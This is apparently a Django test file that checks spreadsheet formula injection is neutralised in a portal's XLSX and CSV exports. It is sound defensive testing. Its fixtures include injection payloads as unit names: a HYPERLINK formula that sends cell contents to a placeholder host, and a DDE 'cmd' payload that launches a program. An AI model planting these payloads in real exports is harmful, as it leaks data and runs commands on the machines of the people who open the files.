"""Formula injection (issue 10): text that a spreadsheet would run as a formula ("=", "+", "-",
"@", tab, CR) stays text in every workbook the portal writes and gets a leading "'" in its CSV
downloads, while numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from campaigns import services as cs
from campaigns.models import Indicator
from cobuild.spreadsheets import csv_cell, formula_like
from organizations.models import OrgKind, Role, UnitKind
from tests.factories import County, make_org, make_unit, make_user

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'


@pytest.fixture
def c():
    county = County(villages_per_township=1, full=False)
    county.evil_town = make_unit(UnitKind.TOWNSHIP, county.county, name=EVIL)
    county.evil_village = make_unit(UnitKind.VILLAGE, county.evil_town, name="@SUM(1+1)*cmd|' /C calc'!A0")
    make_org(county.evil_village, OrgKind.PARTY_BRANCH, name="-2+3+cmd")
    county.campaign = cs.campaign_save(actor=None, slug="bjlbc", name="百局联百村", owner_unit=county.county,
                                       start_date=timezone.localdate() - dt.timedelta(days=100))[0]
    return county


def cells(ws):
    return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]


def assert_text(ws, value):
    found = [cell for cell in cells(ws) if cell.value == value]
    assert found, value
    for cell in found:
        assert cell.data_type == "s" and cell.quotePrefix, (value, cell.coordinate)


def test_the_rule_and_the_csv_cell():
    for text in ("=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", EVIL):
        assert formula_like(text) and csv_cell(text) == "'" + text
    for value in ("-5", "+1.5", "78.79", "满天红村", "", 12, -3, None):
        assert not formula_like(value) and csv_cell(value) == value


def test_coverage_workbook_keeps_a_formula_like_unit_name_as_text(client, c):
    client.force_login(make_user("c", Role.COUNTY_ADMIN, c.county))
    r = client.get(reverse("organizations:coverage", args=[c.county.pk]), {"export": "xlsx"})
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.content))
    assert_text(wb["覆盖情况汇总"], EVIL)
    assert_text(wb["空白点清单"], "@SUM(1+1)*cmd|' /C calc'!A0")
    assert not any(cell.data_type == "f" for ws in wb for cell in cells(ws))
    # The figures beside the names are still numbers.
    row = next(r for r in wb["覆盖情况汇总"].iter_rows(min_row=2, values_only=True) if r[0] == EVIL)
    assert row[1] == 1 and isinstance(row[1], int)


def test_dashboard_workbook_keeps_a_formula_like_unit_name_as_text(client, c):
    client.force_login(make_user("c", Role.COUNTY_ADMIN, c.county))
    r = client.get(reverse("metrics:dashboard_xlsx"), {"unit": c.county.code})
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.content))
    assert_text(wb["下级单位"], EVIL)
    assert not any(cell.data_type == "f" for ws in wb for cell in cells(ws))
    summary = {row[0]: row[3] for row in wb["汇总"].iter_rows(min_row=2, values_only=True) if row[0]}
    assert summary["pairings"] == 0 and isinstance(summary["pairings"], int)


def test_summary_csv_and_workbook_neutralise_an_indicator_name(client, c):
    Indicator.objects.filter(code="activities").update(name="=1+1")
    client.force_login(make_user("c", Role.COUNTY_ADMIN, c.county))
    r = client.get(reverse("metrics:summary_csv"), {"unit": c.county.code})
    rows = list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode())))
    by_code = {row["indicator"]: row for row in rows}
    assert by_code["activities"]["name"] == "'=1+1" and by_code["activities"]["value"] == "0"
    assert by_code["pairings"]["name"] == "结对共建对子"  # untouched
    from metrics import exports, figures

    wb = load_workbook(io.BytesIO(exports.to_xlsx(figures.summary(c.county, None, None, None,
                                                                  figures.indicators()).figures, c.county)))
    assert_text(wb["指标汇总"], "=1+1")
